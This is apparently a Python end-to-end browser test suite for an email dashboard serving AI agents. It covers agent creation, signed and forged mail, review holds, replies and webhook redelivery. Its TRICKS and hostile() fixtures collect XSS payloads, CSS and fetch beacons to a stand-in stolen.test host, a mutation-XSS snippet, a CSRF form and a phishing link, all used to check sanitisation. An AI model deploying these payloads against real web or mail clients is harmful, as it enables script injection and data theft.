"""Agents and their mail in a real browser: the way to a first mail, hostile mail, deliveries, settings."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage
from typing import Any
from urllib.parse import quote

from tests.support import smtpclient
from tests.support.daemon import Api, Daemon
from tests.support.looks import DashboardCase
from tests.support.postgres import sql
from tests.support.sinks import WebhookSink
from tests.system.case import NO_SERVER, mail, signed

BOT, HOOK = "bot@agents.test", "hook@agents.test"
ANA, EVE = "ana@corp.test", "eve@evil.test"

#: Everything in here asks for something, or tries to.
TRICKS = """
<html><head><meta http-equiv="refresh" content="0; url=/dashboard/stolen?refresh"><base href="https://stolen.test/">
<title>t</title><style>@import url("/stolen-import.css"); body { background: url(/stolen-background.png) }
input[value^="a"] { background: url(https://stolen.test/a) } iframe.html, body * { position: fixed; inset: 0 }</style>
<link rel="stylesheet" href="/stolen.css"><link rel="prefetch" href="https://stolen.test/prefetch">
<script>parent.document.title = "taken"; fetch("/stolen?script")</script></head>
<body onload="fetch('/stolen?onload')" style="background-image: url(/stolen-style.png)">
<img src="x" onerror="parent.document.title = 'taken'; fetch('/stolen?onerror')">
<img src="https://stolen.test/pixel.png" srcset="https://stolen.test/2x.png 2x">
<svg onload="fetch('/stolen?svg')"><script>fetch('/stolen?svgscript')</script><image href="/stolen-svg.png"/>
<use href="https://stolen.test/u.svg#u"/><animate attributeName="href" values="javascript:alert(1)"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>
<a href="javascript:fetch('/stolen?link')" id="js">script link</a>
<a href="https://phish.test/login?for=you" target="_top">Your bank</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<form action="/dashboard/sign-out" method="post"><input name="csrf" value="abc"><button>Sign in</button></form>
<iframe src="/dashboard"></iframe><object data="/stolen-object"></object><embed src="/stolen-embed">
<video poster="/stolen-poster.png" autoplay><source src="/stolen.mp4"></video><audio src="/stolen.mp3" autoplay></audio>
<p>The visible <b>offer</b></p>
</body></html>
"""


def hostile(nested: int = 300) -> bytes:
    """A message that tries everything, in its header as in its body and in what is attached."""
    message = EmailMessage()
    message["From"] = f'"<script>alert(1)</script>" <{EVE}>'
    message["To"] = BOT
    message["Subject"] = '"><script>fetch("/stolen?subject")</script><img src=x onerror=alert(1)>{{ 7*7 }}'
    message["Message-ID"] = "<hostile@evil.test>"
    message["Reply-To"] = "<img/src=x/onerror=alert(1)>@evil.test"
    message.set_content("<script>fetch('/stolen?text')</script>\n</pre><img src=x onerror=alert(1)>")
    message.add_alternative(TRICKS + "<div>" * nested + "deep", subtype="html")
    message.add_attachment(
        "<script>fetch('/stolen?attachment')</script>", subtype="html", filename='"><img src=x onerror=alert(1)>.html'
    )
    return message.as_bytes().replace(b"\n", b"\r\n")


class MailPageTests(DashboardCase):
    skip = NO_SERVER

    def setUp(self) -> None:
        super().setUp()
        self.server: Daemon = self.daemon(environment={"E2A_DNS_SERVERS": self.stub("corp.test").address}).start()
        self.requests: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))

    def send(self, sender: str, data: bytes, to: str = BOT) -> None:
        self.assertEqual(smtpclient.send(self.server.smtp_port, sender, [to], data).code, 250)

    def at(self, path: str = "", agent: str = BOT) -> str:
        return f"{self.server.url}/dashboard/agents/{quote(agent)}{path}"

    def test_first_run(self) -> None:
        """From nothing to a received mail that appears by itself, is plainly proven, and is answered; then the rest of
        what an agent's pages offer.
        """
        page, server = self.page, self.server
        self.sign_in(server)
        self.looks("start")
        page.get_by_role("link", name="Make an agent").click()
        page.get_by_label("Name before the @").fill("-")
        page.get_by_label("Display name").fill("Support <b>bot</b>")
        self.expect_complaint("400")
        page.get_by_role("button", name="Make agent").click()
        page.get_by_text("2 to 40 letters, digits or hyphens").wait_for()
        self.assertEqual(page.get_by_label("Display name").input_value(), "Support <b>bot</b>")
        self.looks("new-problem")
        page.get_by_label("Name before the @").fill("bot")
        page.get_by_role("button", name="Make agent").click()
        page.get_by_text("The agent is ready to receive mail.").wait_for()
        page.get_by_role("heading", name="No mail yet").wait_for()
        self.looks("empty")
        # It appears by itself.
        question = signed(mail("q1@corp.test", f"Ana <{ANA}>", BOT, subject="How much is it?"), "corp.test")
        self.send(ANA, question)
        row = page.locator(".letter.unread")
        row.get_by_text("Proven").wait_for()
        page.get_by_role("heading", name="The first mail is here").wait_for()
        self.send(EVE, mail("e1@evil.test", ANA, BOT, subject="Please pay"))
        page.get_by_text("Likely forged").wait_for()
        self.looks("mail")
        # Reading it here leaves it unread for the agent.
        page.get_by_role("link", name="How much is it?").click()
        page.get_by_role("heading", name="Proven: this mail was sent by corp.test").wait_for()
        page.get_by_text("How are you?").wait_for()
        page.get_by_text("What was checked").click()
        self.looks("proven")
        with page.expect_download() as download:
            page.get_by_role("link", name="Download the message").click()
        self.assertIn(b"Message-ID: <q1@corp.test>", download.value.path().read_bytes())
        self.assertEqual(self.unread(), 2)
        page.get_by_role("button", name="Mark as read").click()
        page.get_by_text("Marked as read.").wait_for()
        self.assertEqual(self.unread(), 1)
        self.answer()
        self.settings()

    def unread(self) -> int:
        return int(sql("SELECT count(*) FROM messages WHERE inbox_status = 'unread'", self.dsn)[0][0])

    def answer(self) -> None:
        """Reviewed, so that nothing needs a way out."""
        page = self.page
        page.get_by_role("link", name="Settings").click()
        page.get_by_label("Hold every mail of this agent for review").check()
        page.get_by_label("Time", exact=True).fill("8")
        page.get_by_label("Unit").select_option("days")
        page.get_by_role("button", name="Save review").click()
        page.get_by_text("at most 7 days", exact=False).first.wait_for()
        page.get_by_label("Time", exact=True).fill("36")
        page.get_by_label("Unit").select_option("hours")
        page.get_by_role("button", name="Save review").click()
        page.get_by_text("Saved.").wait_for()
        self.assertEqual(page.get_by_label("Time", exact=True).input_value(), "36")
        stored = sql("SELECT hitl_enabled, hitl_ttl_seconds, hitl_expiration_action FROM agents", self.dsn)
        self.assertIn((True, 129_600, "reject"), stored)
        page.goto(self.at())
        page.get_by_role("link", name="How much is it?").click()
        page.get_by_role("link", name="Reply").click()
        page.get_by_label("Text").fill("It costs 10.\n<b>Really.</b>")
        self.looks("reply")
        self.expect_complaint("503")
        page.get_by_role("button", name="Send reply").click()
        page.get_by_role("alert").wait_for()
        self.assertEqual(page.get_by_label("Text").input_value(), "It costs 10.\n<b>Really.</b>")
        # Without a way out only agents of this deployment can be written to.
        page.goto(self.at("/compose"))
        page.get_by_label("To").fill("friend@agents.test")
        page.get_by_label("Subject").fill("An offer")
        page.get_by_label("Text").fill("Between us")
        self.api().agent("friend")
        page.get_by_role("button", name=f"Send as {BOT}").click()
        page.get_by_text("Taken in: it waits for review.").wait_for()
        (held,) = sql("SELECT id FROM messages WHERE status = 'pending_approval'", self.dsn)
        self.api().post(f"/api/v1/messages/{held[0]}/approve", {}, status=200)
        page.get_by_role("heading", name="Sent", exact=True).wait_for()
        self.looks("sent")
        page.get_by_role("link", name="Show the whole conversation").click()
        page.get_by_role("heading", name="An offer").wait_for()
        # The other agent's answer joins the thread, while somebody looks at it.
        (copy,) = self.api().messages("friend@agents.test")
        answer = f"/api/v1/agents/friend@agents.test/messages/{copy['message_id']}/reply"
        self.api().post(answer, {"body": "I take <i>two</i>"}, status=200)
        page.get_by_text("I take <i>two</i>").wait_for()
        self.looks("thread")
        page.get_by_role("link", name="Conversations").first.click()
        page.get_by_role("link", name="An offer").wait_for()

    def settings(self) -> None:
        page = self.page
        page.get_by_role("link", name="Settings").click()
        page.get_by_label("Label").fill("team-a")
        page.get_by_label("Webhook", exact=False).first.check()
        page.get_by_role("button", name="Save", exact=True).click()
        page.get_by_text("Give the URL to which mail is posted.").wait_for()
        self.assertEqual(page.get_by_label("Label").input_value(), "team-a")
        page.get_by_label("Webhook URL").fill("http://127.0.0.1:9/hook")
        page.get_by_role("button", name="Save", exact=True).click()
        page.get_by_text("Saved.").wait_for()
        self.assertIn(("cloud", "team-a"), sql("SELECT agent_mode, label FROM agents", self.dsn))
        self.looks("settings")
        page.get_by_label("Type the address to confirm").fill("another@agents.test")
        page.get_by_role("button", name="Delete agent").click()
        page.get_by_text(f"Type {BOT} to delete it.").wait_for()
        page.goto(f"{self.server.url}/dashboard")
        self.looks("overview")
        page.goto(self.at("/settings"))
        page.get_by_label("Type the address to confirm").fill(BOT)
        page.get_by_role("button", name="Delete agent").click()
        page.get_by_text("Deleted.").wait_for()
        self.assertEqual(sql(f"SELECT count(*) FROM agents WHERE id = '{BOT}'", self.dsn), [(0,)])

    def api(self) -> Api:
        if not hasattr(self, "_api"):
            self._api: Any = self.owner(self.server)
        return self._api

    def test_hostile(self) -> None:
        """Nothing in a hostile mail runs, asks anybody for anything, or leads away; what it says can be read."""
        page = self.page
        self.api().agent("bot")
        self.sign_in(self.server)
        # The frame's own policy speaks up when a link of the mail is followed.
        self.expect_complaint("phish.test")
        page.goto(self.at())
        self.send(EVE, hostile())
        page.locator(".letter.unread").wait_for()
        page.locator(".letter a").click()
        page.get_by_role("heading", name="Not proven").first.wait_for()
        frame = page.frame_locator("iframe")
        frame.get_by_text("offer").wait_for()
        self.assertEqual(
            frame.locator("script, style[media], form, input, img, svg, iframe, [onload], [style]").count(), 0
        )
        self.assertEqual(frame.locator("a[href^=javascript], a[href^=data]").count(), 0)
        page.get_by_text("Where its links lead").click()
        page.get_by_text("https://phish.test/login?for=you").wait_for()
        self.looks("hostile")
        # A link inside the frame leads nowhere, and neither does the page around it.
        frame.get_by_text("Your bank").click()
        with page.expect_download() as download:
            page.get_by_role("link", name="onerror").last.click()
        self.assertIn(b"stolen?attachment", download.value.path().read_bytes())
        # The HTML and the attachment opened by themselves are harmless too.
        path = page.locator("iframe").get_attribute("src") or ""
        answer = self.context.request.get(self.server.url + path)
        self.assertIn("sandbox", answer.headers["content-security-policy"])
        self.assertIn("default-src 'none'", answer.headers["content-security-policy"])
        attached = self.context.request.get(self.server.url + path.replace("/html", "/attachments/0"))
        self.assertEqual(attached.headers["content-type"], "application/octet-stream")
        self.assertTrue(attached.headers["content-disposition"].startswith("attachment"))
        page.goto(self.server.url + path)
        page.get_by_text("offer").wait_for()
        page.goto(self.at("/settings"))
        page.get_by_role("button", name="Sign out").wait_for()
        self.assertNotIn("taken", page.title())
        self.assertNotIn("49", page.title())
        strange = [url for url in self.requests if not url.startswith(self.server.url) or "stolen" in url]
        self.assertEqual(strange, [])

    def test_deliveries(self) -> None:
        """What a webhook did not take is shown with its attempts, and delivered again one by one or together."""
        page = self.page
        # In a thread: the browser's driver runs an event loop in this one.
        with ThreadPoolExecutor(1) as thread:
            sink = thread.submit(lambda: WebhookSink(status=410)).result()
        self.addCleanup(sink.stop)
        self.api().agent("hook", webhook_url=sink.url)
        for number in range(4):
            self.send(ANA, mail(f"m{number}@corp.test", ANA, HOOK, subject=f"Order {number}"), HOOK)
        sink.wait_for(4)
        self.sign_in(self.server)
        page.get_by_role("link", name="4 failed").wait_for()
        page.get_by_role("link", name="4 failed").click()
        page.get_by_role("heading", name="Failed deliveries").wait_for()
        self.assertEqual(page.locator("tbody tr").count(), 4)
        self.looks("failed")
        sink.status = 200
        page.get_by_role("button", name="Redeliver Order 3").click()
        page.get_by_text("It is delivered once more.").wait_for()
        sink.wait_for(5)
        page.get_by_role("link", name="Order 2").click()
        page.get_by_text("HTTP 410, the receiver is gone for good").first.wait_for()
        page.get_by_role("button", name="Redeliver").click()
        page.get_by_text("Delivered", exact=True).wait_for()
        page.goto(f"{self.server.url}/dashboard/deliveries")
        page.once("dialog", lambda dialog: dialog.accept())
        page.get_by_role("button", name="Redeliver all shown").click()
        sink.wait_for(8)
        page.get_by_text("No failed deliveries.").wait_for()
        page.goto(self.at("/deliveries", HOOK))
        page.get_by_text("Delivered").nth(3).wait_for()
        page.locator("summary").first.click()
        page.get_by_role("cell", name="410").first.wait_for()
        self.looks("deliveries")
        # What somebody has opened stays open when more comes in.
        self.send(ANA, mail("m4@corp.test", ANA, HOOK, subject="Order 4"), HOOK)
        page.get_by_role("link", name="Order 4").wait_for()
        self.assertEqual(page.locator("details[open]").count(), 1)
        self.assertIn("Order 3", page.locator("details[open] summary").inner_text())
